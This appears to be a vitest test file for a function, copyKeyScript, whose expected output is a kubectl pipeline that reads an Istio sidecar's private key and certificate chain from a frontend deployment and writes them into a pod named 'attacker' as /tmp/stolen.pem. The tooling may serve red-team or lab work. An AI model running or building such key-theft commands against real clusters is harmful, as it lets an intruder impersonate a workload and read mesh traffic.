import { expect, test } from 'vitest';

import { copyKeyScript } from './key-copy.ts';

test('the key comes out of the proxy, before the chain, and goes into the own container of the other pod', () => {
  const script = copyKeyScript('shop', 'deployment/frontend', 'attacker', '/tmp/stolen.pem');
  expect(script).toMatch(/-n shop deployment\/frontend -c istio-proxy -- cat \S+key\.pem \S+cert-chain\.pem \|/);
  expect(script).toMatch(/-i -n shop pod\/attacker -c attacker -- sh -c 'cat > \/tmp\/stolen\.pem'$/);
});
